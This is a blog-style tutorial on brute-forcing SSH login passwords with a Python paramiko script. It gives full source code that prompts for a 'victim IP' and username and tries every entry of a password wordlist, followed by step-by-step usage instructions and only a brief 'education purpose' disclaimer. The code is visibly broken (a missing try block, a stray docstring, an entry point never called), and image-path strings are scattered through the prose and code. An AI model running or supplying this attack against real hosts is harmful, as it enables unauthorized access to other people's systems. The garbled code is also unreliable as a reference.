How to Brute Force SSH Password Using Python

#Author: ManishHacker1

How to Brute Force SSH Password Using Python(Python Training)

Hello Everyone, In my previous article, we did learn how to connect window machine to linux machineusing python via SSH. Today we will learn, how to Brute Force SSH password using brute force technique.

What is SSH

SSH is a Secure Socket Shell cryptographic network protocol which provides administrators with a secure way to access a remote computer. SSH provides a secure channel over an unsecured network in a client-server architecture, connecting a SSH client applicationwith a SSH server.

For example: If you want to remote login to another computer system that time we can use SSH.

  • An encrypted remote terminal connection
  • allows command line access to the device
  • Most managed networks will use SSH for management of routers, switches and servers.
  • SSH is simply yet complex, Some reading would be highly beneficial.

How it works

  • We use the python paramico module to connect to the ssh server.
  • We iterate through a dictionaty and try each password
  • When the password is found the connection will accepted and we will be given a prompt.

Now let’s start demonstration

How to Brute Force SSH Password Using Python

Prerequirties: Paramiko and Python installed

Full Source Code:

import paramiko
import time


                Created By ManishHacker1
                Follow on FB:
                Follow on FB:
print __Author__

def connect(host, user, passwd):
    Fails = 0
        s = paramiko.SSHClient()
        s.connect(host, username=user, password=passwd)
        print 'Password Found: ' + passwd
    except Exception, e:
        if Fails > 5:
            print '!!! Too many socket Timeout!'elif 'read_nonblocking' in str(e):
            Fails += 1
            return connect(host, user, passwd)
        elif 'syncronize with origanal prompt' in str(e):
            return connect(host, user, passwd)
        return None

def Main():
    host = raw_input("Enter your victim IP: ")
    user = raw_input("Enter your victim Username: ")
    dic = raw_input("Enter your dic path: ")
    with open(dic, 'r') as infile:
        start = time.time()
        for line in infile:
            passwd = line.strip('\r\n')
            print "Testing: " +str(passwd)
            con = connect(host, user, passwd)
        end = time.time()
        t_time = end - start
        print "Total runtime was -- ", t_time, "second"
if __name__ == '__main__':

In above code save as “” where “.py” our file extension.

How to use:

First open your linux machine and start SSH service. In my case I use Kali Linux.

Go to your Linux machine and type in terminal and press enter button:

service ssh start

After that we search IP address.


  1. First create a wordlist dictionary or Dictionaries can be found online.A popular one is darkc0de.lst. In my case, I did create a wordlist.txt.
  2. After save above python code, you can direct run your code using IDLE.
  3. Double click on script or If you are using IDE go to your “run” tab and click run module button or press “fn+f5”.
  4. When you run your script, Program will ask your client Machine IP address and pressenter button.

How to Brute Force SSH Password Using Python

After that, put your client machine username and press enter button.

How to Brute Force SSH Password Using Python

After that, put your dictionary path where exist your dictionary and press enter button and wait.

How to Brute Force SSH Password Using Python

You will saw, the our program check all possible match in our dictionary and find password.How to Brute Force SSH Password Using Python

The above program is only for education purpose. Please do not illegal activity.

Thank You for reading this article(How to Brute Force SSH Password Using Python). I hope you will have enjoyed read this article.

If youwant to learn more interesting article. Then subscribe,share and like.

Thank you very much for your support andlove.

And also like my FB page givinbelow link and share it.

Best Python Training and Ethical Hacking Trainingin Meerut, Noida , Delhi.Follow ManishHacker1